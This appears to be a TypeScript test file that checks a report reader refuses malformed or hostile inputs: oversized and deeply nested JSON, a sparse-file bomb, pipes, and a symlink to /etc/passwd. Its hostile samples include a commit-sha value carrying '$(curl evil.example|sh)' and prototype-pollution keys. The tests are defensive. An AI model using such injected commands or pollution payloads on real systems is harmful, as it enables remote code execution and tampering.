import { execFileSync } from 'node:child_process';
import { mkdir, mkdtempDisposable, symlink, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { readForeignReport } from '../../src/github/foreign-report.ts';
import { Report } from '../../src/report/schema.ts';
import { clean, incident } from '../report/sample-report.ts';

/** Reads what `leave` leaves at the path it is given. */
async function read(leave: string | ((file: string) => Promise<unknown>)): Promise<Report | undefined> {
  await using folder = await mkdtempDisposable(join(tmpdir(), 'heapgate-foreign-'));
  const file = join(folder.path, 'report.json');
  await (typeof leave === 'string' ? writeFile(file, leave) : leave(file));
  return await readForeignReport(file);
}

const changed = (changes: object): string => JSON.stringify({ ...clean(), ...changes });

test('a report is read as it is', async () => {
  expect(await read(JSON.stringify(incident()))).toEqual(Report.parse(incident()));
});

test('a file that is not there is no report', async () => {
  expect(await readForeignReport(join(tmpdir(), 'no', 'such', 'report.json'))).toBeUndefined();
});

test.each<[string, Parameters<typeof read>[0], RegExp]>([
  ['text', 'verdict: pass', /it is no JSON$/],
  ['nothing', '', /it is no JSON$/],
  ['cut JSON', changed({}).slice(0, 500), /it is no JSON$/],
  ['a ZIP file', 'PK\x03\x04\x14\x00\x00\x00\x08\x00', /it is no JSON$/],
  ['JSON that never ends', '['.repeat(1_000_000), /it is no JSON$/],
  ['JSON as deep as it is long', `${'['.repeat(900_000)}${']'.repeat(900_000)}`, /its content is not/],
  ['a list', '[]', /its content is not as the report of heapgate \d+\.\d+\.\d+ has it$/],
  ['null', 'null', /its content is not/],
  ['another schema', changed({ schemaVersion: 2 }), /schemaVersion is not/],
  ['an unknown verdict', changed({ verdict: 'fine' }), /verdict is not/],
  ['a number for a text', changed({ notices: [1] }), /notices\.0 is not/],
  ['an infinite number', changed({}).replace('"seed":7', '"seed":1e999'), /seed is not/],
  ['a missing side', changed({ head: undefined }), /head is not/],
  [
    'a branch for a commit',
    changed({ base: { ...clean().base, sha: 'main' } }),
    /its base\.sha is no commit$/,
  ],
  [
    'a command for a commit',
    changed({ base: { ...clean().base, sha: `${'a'.repeat(40)}\n$(curl evil.example|sh)` } }),
    /its base\.sha is no commit$/,
  ],
  ['too much text', ' '.repeat(2 * 1024 * 1024 + 1), /it has 2097153 bytes, and a report at most 2097152$/],
  // What a small archive unpacks to: ten gigabytes, of which the disk holds nothing.
  [
    'a bomb',
    async (file) => {
      await writeFile(file, '{');
      await truncate(file, 10 * 1024 ** 3);
    },
    /it has 10737418240 bytes/,
  ],
  ['a folder', (file) => mkdir(file), /it is no plain file$/],
  ['a pipe', async (file) => execFileSync('mkfifo', [file]), /it is no plain file$/],
  ['a symbolic link', (file) => symlink('/etc/passwd', file), /it is a symbolic link$/],
])('%s is refused in one line', async (_, leave, why) => {
  const refusal = expect.objectContaining({
    name: 'CannotMeasure',
    message: expect.stringMatching(/^nothing is published of .*report\.json: [^\n]*$/),
  });
  await expect(read(leave)).rejects.toEqual(refusal);
  await expect(read(leave)).rejects.toThrow(why);
});

test('a refusal quotes nothing of the file', async () => {
  await expect(read('CANARY')).rejects.not.toThrow('CANARY');
  await expect(read(changed({ verdict: 'CANARY' }))).rejects.not.toThrow('CANARY');
});

test('keys that JavaScript gives a meaning to change nothing', async () => {
  const text = changed({}).replace(
    '{',
    '{"__proto__":{"verdict":"regression"},"constructor":{"prototype":{"polluted":1}},',
  );
  const report = await read(text.replace('"status":{', '"status":{"__proto__":1,'));
  expect(report?.verdict).toBe('pass');
  expect(Object.getPrototypeOf(report)).toBe(Object.prototype);
  expect('polluted' in {}).toBe(false);
});
